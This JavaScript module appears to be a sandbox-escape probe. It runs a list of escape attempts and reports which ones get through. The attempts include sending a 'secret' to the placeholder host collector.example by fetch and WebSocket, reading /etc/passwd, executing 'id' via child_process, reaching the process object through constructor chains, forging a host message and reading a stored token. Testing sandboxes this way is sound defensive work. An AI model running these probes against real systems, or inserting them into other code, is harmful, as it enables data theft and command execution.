// Tries to reach something outside, in the ways published escapes begin, and reports what it got.

const attempts = {
  'fetch a server': async () => (await fetch('https://collector.example/?secret=1')).status,
  'import node:fs': async () => (await import('node:fs')).readFileSync('/etc/passwd', 'utf8'),
  'process.env': () => process.env.HOME,
  require: () => require('node:child_process').execSync('id').toString(),
  'constructor chain': () => ({}).constructor.constructor('return process')(),
  'async constructor': () => (async () => {}).constructor('return globalThis')(),
  'error from the platform': () => {
    try {
      new URL('http://[');
    } catch (error) {
      return error.constructor.constructor('return process')();
    }
  },
  'a socket': () => new WebSocket('wss://collector.example'),
  'a message to the host': () => postMessage({ type: 'done', data: 'forged' }),
  storage: () => localStorage.getItem('token'),
  'the environment of the host': () => env.HOME ?? env.PATH ?? env.USER,
};

export default async function exfiltrate() {
  const got = {};
  const reached = [];
  for (const [what, attempt] of Object.entries(attempts)) {
    try {
      const value = await attempt();
      got[what] = value === undefined ? 'nothing' : String(value);
      if (value !== undefined) reached.push(what);
    } catch (error) {
      got[what] = `${error.name}: ${error.message}`;
    }
  }
  return { reached, got };
}
